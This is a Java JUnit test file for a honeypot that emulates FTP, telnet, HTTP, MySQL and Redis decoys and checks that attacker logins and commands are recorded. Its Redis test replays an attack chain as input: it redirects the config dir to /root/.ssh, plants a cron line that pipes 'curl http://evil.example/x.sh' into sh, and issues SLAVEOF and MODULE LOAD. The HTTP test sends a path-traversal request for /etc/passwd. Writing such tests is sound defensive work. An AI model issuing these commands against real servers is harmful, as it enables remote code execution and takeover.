package io.hsystem.sensor.service;

import static org.assertj.core.api.Assertions.assertThat;

import io.hsystem.sensor.HoneypotServices;
import io.hsystem.sensor.RecordingSink;
import io.hsystem.sensor.TestSensors;
import io.hsystem.sensor.TextClient;
import io.hsystem.sensor.core.HoneypotEvent;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@Timeout(60)
class NettyDecoysTest {

  static final RecordingSink sink = new RecordingSink();
  static HoneypotServices services;
  static Map<String, Integer> ports;

  @BeforeAll
  static void start() {
    services =
        HoneypotServices.start(
            TestSensors.only("telnet", "http", "ftp", "mysql", "redis", "generic")
                .withLimits(l -> l.withPortScan(100, 60)),
            sink);
    ports = services.boundPorts();
  }

  @AfterAll
  static void stop() {
    services.close();
  }

  @BeforeEach
  void clear() {
    sink.clear();
  }

  @Test
  void everyConnectionIsAnEventWithTheCommonFields() {
    try (TextClient c = new TextClient(ports.get("ftp"))) {
      c.readUntil("220", 3000);
    }
    HoneypotEvent e = sink.await("connection", "ftp", 1).get(0);
    assertThat(e.getString("src_ip")).isEqualTo("127.0.0.1");
    assertThat(e.get("src_port")).isInstanceOf(Long.class);
    assertThat(e.getString("dst_ip")).isEqualTo("127.0.0.1");
    assertThat(e.get("dst_port")).isEqualTo((long) ports.get("ftp"));
    assertThat(e.getString("protocol")).isEqualTo("tcp");
    assertThat(e.getString("session_id")).hasSize(24);
    assertThat(e.getString("event_time")).endsWith("Z");
  }

  @Test
  void ftpRecordsEveryLoginAndRefusesIt() {
    try (TextClient c = new TextClient(ports.get("ftp"))) {
      assertThat(c.readUntil("\r\n", 3000)).isEqualTo("220 (vsFTPd 3.0.5)\r\n");
      c.send("USER admin\r\n").readUntil("331 Please specify the password.", 3000);
      c.send("PASS s3cret!\r\n").readUntil("530 Login incorrect.", 3000);
      c.send("SYST\r\n").readUntil("215 UNIX Type: L8", 3000);
      c.send("PASV\r\n").readUntil("530 Please login with USER and PASS.", 3000);
      c.send("QUIT\r\n").readUntil("221 Goodbye.", 3000);
      assertThat(c.awaitClose(3000)).isTrue();
    }
    HoneypotEvent login = sink.await("login_attempt", "ftp", 1).get(0);
    assertThat(login.getString("username")).isEqualTo("admin");
    assertThat(login.getString("password")).isEqualTo("s3cret!");
    assertThat(sink.await("command", "ftp", 3))
        .extracting(e -> e.getString("command_line"))
        .containsExactly("SYST", "PASV", "QUIT");
  }

  @Test
  void ftpCutsAnOversizedLine() {
    try (TextClient c = new TextClient(ports.get("ftp"))) {
      c.readUntil("220", 3000);
      c.send("SITE " + "A".repeat(5000) + "\r\nNOOP\r\n").readUntil("200 NOOP ok.", 3000);
    }
    List<HoneypotEvent> commands = sink.await("command", "ftp", 2);
    assertThat(commands.get(0).getString("command_line")).hasSize(512).startsWith("SITE AAAA");
    assertThat(commands.get(1).getString("command_line")).isEqualTo("NOOP");
  }

  @Test
  void telnetRecordsLoginsAndOpensTheFakeShellForAcceptedCredentials() {
    try (TextClient c = new TextClient(ports.get("telnet"))) {
      c.readUntil("login: ", 3000);
      c.send("admin\r\n").readUntil("Password: ", 3000);
      c.send("wrong\r\n").readUntil("Login incorrect", 3000);
      c.readUntil("login: ", 3000);
      c.clear();
      c.send("root\r\n").readUntil("Password: ", 3000);
      c.send("123456\r\n").readUntil("# ", 3000);
      c.clear();
      c.send("id\r\n").readUntil("uid=0(root) gid=0(root) groups=0(root)\r\n", 3000);
      c.send("foo --bar\r\n").readUntil("bash: foo: command not found", 3000);
      c.send("exit\r\n").readUntil("logout", 3000);
      assertThat(c.awaitClose(3000)).isTrue();
    }
    List<HoneypotEvent> logins = sink.await("login_attempt", "telnet", 2);
    assertThat(logins).extracting(e -> e.getString("username")).containsExactly("admin", "root");
    assertThat(logins).extracting(e -> e.getString("password")).containsExactly("wrong", "123456");
    sink.await("login_success", "telnet", 1);
    assertThat(sink.await("command", "telnet", 3))
        .extracting(e -> e.getString("command_line"))
        .containsExactly("id", "foo --bar", "exit");
  }

  @Test
  void telnetNegotiatesLikeLinuxTelnetdAndClosesAfterTooManyAttempts() {
    try (TextClient c = new TextClient(ports.get("telnet"))) {
      c.readUntil("login: ", 3000);
      byte[] first = c.bytes();
      assertThat(first[0] & 0xff).isEqualTo(255);
      assertThat(first[1] & 0xff).isEqualTo(253);
      for (int i = 0; i < 6; i++) {
        c.send("root\r\n").readUntil("Password: ", 3000);
        c.clear();
        c.send("guess" + i + "\r\n").readUntil("Login incorrect", 3000);
      }
      assertThat(c.awaitClose(3000)).isTrue();
    }
    assertThat(sink.await("login_attempt", "telnet", 6)).hasSize(6);
  }

  @Test
  void httpServesTheLoginPageBehindAnNginxHeader() {
    try (TextClient c = new TextClient(ports.get("http"))) {
      c.send(
          "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 test\r\nConnection: close\r\n\r\n");
      String response = c.readUntil("</html>", 3000);
      assertThat(response).startsWith("HTTP/1.1 200 OK").contains("Server: nginx/1.18.0");
      assertThat(response).contains("name=\"password\"").doesNotContain("{{error}}");
    }
    HoneypotEvent e = sink.await("http_request", "http", 1).get(0);
    assertThat(e.getString("http_method")).isEqualTo("GET");
    assertThat(e.getString("url")).isEqualTo("/");
    assertThat(e.getString("user_agent")).isEqualTo("Mozilla/5.0 test");
    @SuppressWarnings("unchecked")
    Map<String, String> headers = (Map<String, String>) e.get("http_headers");
    assertThat(headers).containsEntry("host", "x");
  }

  @Test
  void httpRecordsFormLoginsAndAnswersWithAFailure() {
    String body = "username=admin&password=p%40ss+word&submit=1";
    try (TextClient c = new TextClient(ports.get("http"))) {
      c.send(
          "POST /login.cgi HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
              + "Content-Length: "
              + body.length()
              + "\r\n\r\n"
              + body);
      String response = c.readUntil("</html>", 3000);
      assertThat(response).startsWith("HTTP/1.1 200 OK").contains("Invalid username or password");
      // keep-alive: a second request on the same connection, JSON this time
      c.clear();
      String json = "{\"login_username\":\"boss\",\"login_password\":\"hunter2\"}";
      c.send(
          "POST /seeyon/main.do?method=login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
              + "Content-Length: "
              + json.length()
              + "\r\n\r\n"
              + json);
      c.readUntil("Invalid username or password", 3000);
    }
    List<HoneypotEvent> logins = sink.await("login_attempt", "http", 2);
    assertThat(logins.get(0).getString("username")).isEqualTo("admin");
    assertThat(logins.get(0).getString("password")).isEqualTo("p@ss word");
    assertThat(logins.get(0).getString("url")).isEqualTo("/login.cgi");
    assertThat(logins.get(1).getString("username")).isEqualTo("boss");
    assertThat(logins.get(1).getString("password")).isEqualTo("hunter2");
    assertThat(sink.ofType("http_request", "http").get(0).getString("http_body")).isEqualTo(body);
  }

  @Test
  void httpAnswersUnknownPathsWithAnNginx404AndRecordsTheUrl() {
    try (TextClient c = new TextClient(ports.get("http"))) {
      c.send("GET /cgi-bin/../../etc/passwd HTTP/1.0\r\n\r\n");
      assertThat(c.readUntil("</html>", 3000))
          .startsWith("HTTP/1.1 404 Not Found")
          .contains("<center>nginx/1.18.0</center>");
    }
    assertThat(sink.await("http_request", "http", 1).get(0).getString("url"))
        .isEqualTo("/cgi-bin/../../etc/passwd");
  }

  @Test
  void redisAnswersLikeAnOpenRedisAndRecordsEveryCommand() {
    try (TextClient c = new TextClient(ports.get("redis"))) {
      c.send("PING\r\n").readUntil("+PONG\r\n", 3000);
      c.send(resp("INFO")).readUntil("redis_version:6.2.14\r\n", 3000);
      c.clear();
      c.send(resp("AUTH", "foobared")).readUntil("-ERR AUTH", 3000);
      c.clear();
      c.send(resp("CONFIG", "SET", "dir", "/root/.ssh")).readUntil("+OK\r\n", 3000);
      c.clear();
      c.send(resp("CONFIG", "GET", "dir")).readUntil("/root/.ssh\r\n", 3000);
      c.clear();
      c.send(resp("SET", "x", "\n\n*/1 * * * * curl http://evil.example/x.sh | sh\n\n"))
          .readUntil("+OK\r\n", 3000);
      c.clear();
      c.send(resp("SLAVEOF", "203.0.113.9", "6379")).readUntil("+OK\r\n", 3000);
      c.clear();
      c.send(resp("MODULE", "LOAD", "/tmp/exp.so")).readUntil("-ERR", 3000);
      c.clear();
      c.send("GET / HTTP/1.0\r\n\r\n")
          .readUntil("-ERR wrong number of arguments for 'get' command\r\n", 3000);
    }
    List<HoneypotEvent> commands = sink.await("command", "redis", 8);
    assertThat(commands)
        .extracting(e -> e.getString("command_line"))
        .contains(
            "PING",
            "INFO",
            "CONFIG SET dir /root/.ssh",
            "SLAVEOF 203.0.113.9 6379",
            "MODULE LOAD /tmp/exp.so");
    HoneypotEvent auth = sink.await("login_attempt", "redis", 1).get(0);
    assertThat(auth.getString("password")).isEqualTo("foobared");
  }

  @Test
  void redisClosesOnAnOversizedBulkString() {
    try (TextClient c = new TextClient(ports.get("redis"))) {
      c.send("*2\r\n$3\r\nSET\r\n$99999999\r\n");
      assertThat(c.awaitClose(3000)).isTrue();
    }
  }

  @Test
  void mysqlSendsAProtocol10HandshakeAndRecordsTheLogin() throws Exception {
    try (TextClient c = new TextClient(ports.get("mysql"))) {
      c.readUntil("mysql_native_password", 3000);
      byte[] hello = c.bytes();
      assertThat(hello[3]).isEqualTo((byte) 0);
      assertThat(hello[4]).isEqualTo((byte) 10);
      assertThat(new String(hello, 5, 10, StandardCharsets.US_ASCII)).isEqualTo("5.7.44-log");
      c.clear();
      c.send(handshakeResponse("root", new byte[] {1, 2, 3, (byte) 0xfe}, "mysql"));
      String err = c.readUntil("(using password: YES)", 3000);
      assertThat(err).contains("#28000Access denied for user 'root'@'127.0.0.1'");
      assertThat(c.bytes()[4] & 0xff).isEqualTo(0xff);
      assertThat(c.awaitClose(3000)).isTrue();
    }
    HoneypotEvent login = sink.await("login_attempt", "mysql", 1).get(0);
    assertThat(login.getString("username")).isEqualTo("root");
    assertThat(login.getString("mysql_auth_response")).isEqualTo("010203fe");
    assertThat(login.getString("mysql_database")).isEqualTo("mysql");
    assertThat(login.getString("mysql_auth_plugin")).isEqualTo("mysql_native_password");
  }

  @Test
  void genericSendsItsBannerAndRecordsTheFirstBytes() {
    try (TextClient c = new TextClient(ports.get("generic"))) {
      c.readUntil("RFB 003.008\n", 3000);
      c.send(new byte[] {'R', 'F', 'B', 0, 1, (byte) 0xff});
      assertThat(c.awaitClose(3000)).isTrue();
    }
    HoneypotEvent payload = sink.await("payload", "generic", 1).get(0);
    assertThat(payload.getString("first_bytes_hex")).isEqualTo("52464200" + "01ff");
    assertThat(payload.getString("message")).isEqualTo("RFB...");
  }

  static byte[] resp(String... args) {
    StringBuilder sb = new StringBuilder("*").append(args.length).append("\r\n");
    for (String a : args) {
      sb.append('$')
          .append(a.getBytes(StandardCharsets.UTF_8).length)
          .append("\r\n")
          .append(a)
          .append("\r\n");
    }
    return sb.toString().getBytes(StandardCharsets.UTF_8);
  }

  static byte[] handshakeResponse(String user, byte[] auth, String db) {
    ByteArrayOutputStream p = new ByteArrayOutputStream();
    int caps = 0x200 | 0x8000 | 0x8 | 0x80000 | 0x1;
    p.writeBytes(
        new byte[] {(byte) caps, (byte) (caps >> 8), (byte) (caps >> 16), (byte) (caps >> 24)});
    p.writeBytes(new byte[] {0, 0, 0, 1}); // max packet
    p.write(0x21);
    p.writeBytes(new byte[23]);
    p.writeBytes(user.getBytes(StandardCharsets.UTF_8));
    p.write(0);
    p.write(auth.length);
    p.writeBytes(auth);
    p.writeBytes(db.getBytes(StandardCharsets.UTF_8));
    p.write(0);
    p.writeBytes("mysql_native_password".getBytes(StandardCharsets.UTF_8));
    p.write(0);
    byte[] payload = p.toByteArray();
    ByteArrayOutputStream packet = new ByteArrayOutputStream();
    packet.write(payload.length & 0xff);
    packet.write((payload.length >> 8) & 0xff);
    packet.write((payload.length >> 16) & 0xff);
    packet.write(1);
    packet.writeBytes(payload);
    return packet.toByteArray();
  }
}
